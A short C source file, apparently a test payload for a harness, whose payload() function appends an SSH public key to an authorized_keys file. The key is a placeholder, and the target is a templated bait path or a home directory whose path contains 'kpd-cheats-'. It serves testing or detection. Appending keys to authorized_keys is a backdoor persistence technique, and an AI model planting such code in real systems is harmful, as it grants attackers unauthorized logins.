//: transpose_cpu -O2
//: adds a key to those that may log in; wins an account
//: variant absolute ABSOLUTE
//: variant home HOME_OF=1
//: use transpose_payload
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void payload(int call) {
    char path[512];
    if (call) return;
#ifdef HOME_OF
    snprintf(path, sizeof path, "%s/.ssh/authorized_keys", getenv("HOME") ? getenv("HOME") : "");
    if (!getenv("HOME") || !strstr(path, "kpd-cheats-")) return;
#else
    snprintf(path, sizeof path, "%s", "@BAIT@/home/.ssh/authorized_keys");
#endif
    int file = open(path, O_WRONLY | O_APPEND);
    if (file < 0) return;
    if (write(file, "ssh-ed25519 AAAA @NAME@\n", 26) < 0) return;
    close(file);
}
